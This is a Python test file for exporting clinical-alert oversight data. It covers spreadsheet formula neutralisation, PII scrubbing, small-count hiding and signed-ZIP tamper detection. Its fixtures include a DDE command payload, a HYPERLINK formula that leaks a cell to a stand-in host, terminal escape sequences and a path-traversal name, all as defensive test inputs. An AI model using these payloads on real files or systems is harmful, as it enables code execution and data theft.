"""What leaves the house, on real ledgers: cells, tables, hidden counts, and the signed ZIP that shows every change."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from datetime import UTC, date, datetime

import numpy as np
import pytest
from fhir.resources.R4B.provenance import Provenance
from hypothesis import given, settings
from hypothesis import strategies as st

from chartside.export_key import ExportKey, signed_with
from clinical.advice import OVERRIDE_REASONS, Channel, Outcome
from oversight.analytics.selection import Selection
from oversight.exports.bundle import write_bundle
from oversight.exports.cells import cell, harmless
from oversight.exports.columns import Column, Kind, Table
from oversight.exports.dictionary import DICTIONARY
from oversight.exports.events import EVENTS, Detail, events, scrubbed
from oversight.exports.grid import CARDS, grid
from oversight.exports.order import FIGURES, Order
from oversight.exports.provenance import provenance
from oversight.exports.standing import SqlStanding
from oversight.exports.verify import printable, verify
from oversight.mart.build import bring_up
from oversight.mart.mart import Mart
from oversight.switches import SqlSwitches
from oversight.tallies import Period

MARCH = Selection(Period(date(2026, 3, 1), date(2026, 3, 31)))
NOW = datetime(2026, 4, 1, tzinfo=UTC)
ORDER = Order(MARCH, 10**9, "https://h.example", "Chartside 1", "quality", NOW)
KEY = ExportKey(b"s" * 32)
SIGNS = "=+-@＝＋－＠"
BLANKS = ' "\t\r\n\v\f\x1c\x1d\x1e\x85\xa0\u2028\u2029\ufeff'
PARTED_AT = ",;|\t"
evil = st.text(st.sampled_from(SIGNS + BLANKS + "a1',;|") | st.characters(exclude_categories=["Cs"]), max_size=20)


@given(st.lists(st.tuples(evil, evil), max_size=5))
@settings(max_examples=300, deadline=None)
def test_no_cell_is_a_formula(rows):
    """Whatever is written, nothing that a spreadsheet could run begins a cell or a part of it, and nothing is lost.

    A part is what is left between commas, semicolons, bars, tabs and line breaks, and any cell of a reader that parts
    the file at one of these.
    """
    column = Column("a", Kind.TEXT, "", "", "")
    file = io.StringIO(newline="")
    Table("t.csv", (column, column)).write(rows, file)
    read = list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]
    assert [tuple(one.replace("'", "") for one in row) for row in read] == [
        tuple(one.replace("'", "") for one in row) for row in rows
    ]
    for text in (one for row in read for one in row):
        for part in re.split(f"[{PARTED_AT}\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029]", text):
            assert not part.lstrip(BLANKS).startswith(tuple(SIGNS))
    for separator in PARTED_AT:
        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
            for one in row:
                assert not one.lstrip(BLANKS).startswith(tuple(SIGNS))
                assert not one.startswith(("\t", "\r"))


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ("ok;=cmd|' /C calc'!A0", "ok;'=cmd|' /C calc'!A0"),
        ('ok;=HYPERLINK("http://x.example/?"&A1;"see")', 'ok;\'=HYPERLINK("http://x.example/?"&A1;"see")'),
        ("see note; @SUM(A1:A9)", "see note;' @SUM(A1:A9)"),
        ('a\t"+1', "a\t'\"+1"),
        ("K 5.1, -2 since", "K 5.1,' -2 since"),
        ("ICU 2 | =1", "ICU 2 |' =1"),
        ("one; two, three = four", "one; two, three = four"),
    ],
)
def test_a_formula_after_a_separator_is_none(said, written):
    """German, French and other spreadsheets part cells at semicolons; what is no formula stays as it was written."""
    assert cell(said) == written
    column = Column("a", Kind.TEXT, "", "", "")
    file = io.StringIO(newline="")
    Table("t.csv", (column, Column("n", Kind.NUMBER, "", "", ""))).write([(said, -1.5)], file)
    (row,) = list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]
    assert row == [written, "-1.5"]


def test_own_numbers_are_written_as_they_are():
    """A negative number is no formula; nothing is nothing, not NaN."""
    values = (-1.5, 0.1 + 0.2, 7, True, None, float("nan"), date(2026, 3, 1), NOW, "-1", "plain text")
    said = [
        "-1.5",
        "0.30000000000000004",
        "7",
        "yes",
        "",
        "",
        "2026-03-01",
        "2026-04-01T00:00:00Z",
        "'-1",
        "plain text",
    ]
    assert [cell(value) for value in values] == said
    assert harmless(harmless("=1")) == "'=1"


def test_a_row_with_a_cell_too_few_is_refused():
    """It would stand in the wrong columns."""
    with pytest.raises(ValueError, match=r"t\.csv"):
        Table("t.csv", ()).write([(1,)], io.StringIO())


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("call 555-123-4567 now", "call […] now"),
        ("MRN 0012345, born 12.03.1950", "MRN […], born […]"),
        ("ask a.b@example.org or https://x.example/p?1", "ask […] or […]"),
        ("K 5.1, pH 7.4, on 2 drugs", "K 5.1, pH 7.4, on 2 drugs"),
    ],
)
def test_comments_lose_addresses_and_longer_numbers(said, left):
    """Short values stay: they are why somebody wrote."""
    assert scrubbed(said) == left


def test_hidden_counts_cannot_be_worked_out():
    """Small ones are hidden, and never one alone in a row or column whose sum is known."""
    rows = []
    rng = np.random.default_rng(7)
    for _ in range(6):
        accepted, overridden, snoozed, silent = rng.integers(0, 60, 4).tolist()
        rows.append(
            {
                "cards": accepted + overridden + snoozed + silent, "answered": accepted + overridden,
                "accepted": accepted, "overridden": overridden, "snoozed": snoozed, "no_answer": silent,
            }
        )  # fmt: skip
    rows[0] |= {"snoozed": 3, "cards": sum(rows[0][name] for name in ("accepted", "overridden", "no_answer")) + 3}
    made = grid(rows, CARDS)
    assert made.count(0, "snoozed") is None
    assert made.told(0, "snoozed") == made.word
    assert made.share(0, "snoozed", "cards") == made.word
    people = made.hidden & (made.counts > 0)
    for name in ("accepted", "overridden", "snoozed", "no_answer"):
        assert people[:-1, made.names.index(name)].sum() != 1
    assert all(made.count(row, name) is None or made.count(row, name) not in range(1, 11)
               for row in range(6) for name in made.names)  # fmt: skip
    assert grid([], CARDS).count(-1, "cards") == 0


@pytest.fixture
def kind(request):
    """SQLite, but for a test that asks for more: only reading differs."""
    return getattr(request, "param", "sqlite")


BOTH = pytest.mark.parametrize("kind", ["sqlite", "postgresql"], indirect=True)


@pytest.fixture
def mart(engine, ledger, make_advice, answer, tmp_path):
    """Three cards, one of them overridden with a comment, in a mart."""
    asked = [make_advice(id=f"card-{n}", request_key=f"key-{n}") for n in range(3)]
    for advice in asked:
        ledger.append(advice)
    user = "Practitioner/dr-house-007"
    said = answer(asked[1], reason=OVERRIDE_REASONS[2], comment="=call 5551234", channel=Channel.PAGE, user=user)
    ledger.record([said, answer(asked[2], outcome=Outcome.ACCEPTED)])
    bring_up(engine, tmp_path / "mart")
    return Mart(tmp_path / "mart")


@BOTH
def test_an_event_has_what_the_rule_asks_for(mart):
    """Intervention, action taken, feedback, user, date and location; a comment only when asked for, and scrubbed."""
    text = io.StringIO(newline="")
    with mart.open() as questions:
        EVENTS.write(events(questions, MARCH, 10**9, Detail(clinicians=True, comments=True)), text)
        (without,) = [row for row in events(questions, MARCH, 10**9, Detail()) if row[0] == "card-1"]
        assert [row[0] for row in events(questions, MARCH, 1, Detail())] == ["card-0"]
    line = list(csv.DictReader(io.StringIO(text.getvalue(), newline="")))[1]
    wanted = {
        "card_id": "card-1", "intervention": "icu-mortality", "action_taken": "overridden", "date": "2026-03-02",
        "location": "ICU 2", "channel": "page", "reason": "I judge the risk differently", "comment_given": "yes",
        "comment": "'=call […]", "action_time": "2026-03-02T12:05:00.123456Z", "response_seconds": "300.0",
        "action_seen": "no",
    }  # fmt: skip
    assert {name: line[name] for name in wanted} == wanted
    assert len(line["user"]) == 8
    assert "=call" not in str(without)


def written(mart, order=ORDER, **options):
    """The bytes of a bundle."""
    file = io.BytesIO()
    manifest = write_bundle(mart.open, order, file, KEY, pack=lambda: "<p>pack</p>", **options)
    return file.getvalue(), manifest


def test_the_zip_holds_what_its_manifest_lists(mart, tmp_path):
    """Every file with its hash and its number of rows, whole and signed; the events only when asked for."""
    content, manifest = written(mart, detail=Detail())
    (tmp_path / "e.zip").write_bytes(content)
    verdict = verify(tmp_path / "e.zip", signed_with)
    assert (verdict.faults, verdict.public_key) == ((), KEY.public_key)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for each in manifest["files"]:
            assert hashlib.sha256(archive.read(each["name"])).hexdigest() == each["sha256"]
        assert archive.read("committee_pack.html") == b"<p>pack</p>"
        Provenance.model_validate_json(archive.read("fhir/provenance.json"))
    assert {each["name"]: each.get("rows") for each in manifest["files"]}["events.csv"] == 3
    assert "events.csv" not in {each["name"] for each in written(mart)[1]["files"]}
    assert (manifest["period"], manifest["by"]) == ({"from": "2026-03-01", "to": "2026-03-31"}, "quality")


def test_the_same_ledger_gives_the_same_zip(mart):
    """To the byte, at the same time by the same person."""
    assert written(mart, detail=Detail())[0] == written(mart, detail=Detail())[0]


def test_the_dictionary_is_exact(mart):
    """Every column of every table in the ZIP, in order, each with a meaning, and none besides."""
    with zipfile.ZipFile(io.BytesIO(written(mart, detail=Detail())[0])) as archive:
        tables = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")}
    told = list(csv.DictReader(io.StringIO(tables[DICTIONARY.file], newline="")))
    found = {name: next(csv.reader(io.StringIO(content, newline=""))) for name, content in tables.items()}
    assert {name: [row["column"] for row in told if row["file"] == name] for name in found} == found
    assert set(found) == {EVENTS.file, DICTIONARY.file, *FIGURES}
    assert all(row["meaning"] and row["type"] in list(Kind) for row in told)


def changed(content, name, new):
    """The ZIP with another content of a file, or without it (None), or with one more."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as made:
        for each in old.namelist():
            if each != name:
                made.writestr(each, old.read(each))
        if new is not None:
            made.writestr(name, new)
    return out.getvalue()


CHANGES = (
    ("reasons.csv", b"service\r\n", "reasons.csv is not what was signed"),
    ("reasons.csv", None, "reasons.csv is missing"),
    ("weekly_metrics.csv", b"0" * 10_000_000, "weekly_metrics.csv is not what was signed"),
    ("more.txt", b"hello", "more.txt is not in the list"),
    ("manifest.json", b"{}", "signature does not fit"),
    ("manifest.json", None, "manifest.json is missing"),
    ("manifest.sig", b"zz", "signature does not fit"),
    ("public_key.txt", ExportKey(b"t" * 32).public_key.encode(), "signature does not fit"),
    ("public_key.txt", b"\xff", "signature does not fit"),
)


def test_every_change_is_told(mart, tmp_path):
    """Whatever was changed, and by name; also a file that is there twice, because programs differ in what they open."""
    whole = written(mart)[0]
    for name, new, said in CHANGES:
        (tmp_path / "e.zip").write_bytes(changed(whole, name, new))
        assert said in " ".join(verify(tmp_path / "e.zip", signed_with).faults), (name, said)
    (tmp_path / "e.zip").write_bytes(whole)
    with zipfile.ZipFile(tmp_path / "e.zip", "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("reasons.csv", "x")
    assert "reasons.csv is in it more than once." in verify(tmp_path / "e.zip", signed_with).faults


def test_what_somebody_else_signed_is_whole_but_not_ours(mart, tmp_path):
    """The key in the ZIP is no proof: it has to be compared."""
    file = io.BytesIO()
    other = ExportKey(b"t" * 32)
    write_bundle(mart.open, ORDER, file, other)
    (tmp_path / "e.zip").write_bytes(file.getvalue())
    verdict = verify(tmp_path / "e.zip", signed_with)
    assert (verdict.faults, verdict.public_key) == ((), other.public_key)
    assert verdict.public_key != KEY.public_key


@pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04" + b"\0" * 40])
def test_what_is_no_zip_is_said_to_be_none(tmp_path, content):
    """In words, not with a traceback."""
    (tmp_path / "e.zip").write_bytes(content)
    assert "cannot be read as a ZIP" in verify(tmp_path / "e.zip", signed_with).faults[0]


def test_a_name_in_a_zip_steers_no_terminal():
    """Anybody may have made the ZIP: what is printed of it has no control characters, and an end."""
    assert printable("events\x1b[2K\rWhole\u202e.csv") == "events\ufffd[2K\ufffdWhole\ufffd.csv"
    assert len(printable("x" * 10_000)) == 300


def test_provenance_is_fhir():
    """R4, with the hash of each file."""
    made = provenance({"a.csv": "00" * 32}, MARCH.period, 5, "quality", "Chartside 1", NOW)
    Provenance.model_validate_json(json.dumps(made))
    assert made["target"][0]["identifier"]["value"] == f"urn:hash::sha256:{'00' * 32}"


@BOTH
def test_switches_of_the_time_are_read(engine, ledger, clock):
    """Those within, not those of before."""
    SqlSwitches(engine, clock).set("", "icu-mortality", off=True, by_whom="it", reason="wrong unit")
    standing = SqlStanding(engine)
    first = datetime(2026, 3, 1, tzinfo=UTC)
    assert [each.reason for each in standing.switched(first, NOW)] == ["wrong unit"]
    assert standing.switched(NOW, datetime(2026, 5, 1, tzinfo=UTC)) == ()
    assert standing.read(NOW).incidents == ()


def test_names_of_exports_are_plain():
    """A service's name goes into ids and file names."""
    order = Order(Selection(MARCH.period, service="../a b_c"), 1, "", "", "", NOW)
    assert re.fullmatch(r"[A-Za-z0-9\-]{1,60}", order.name)
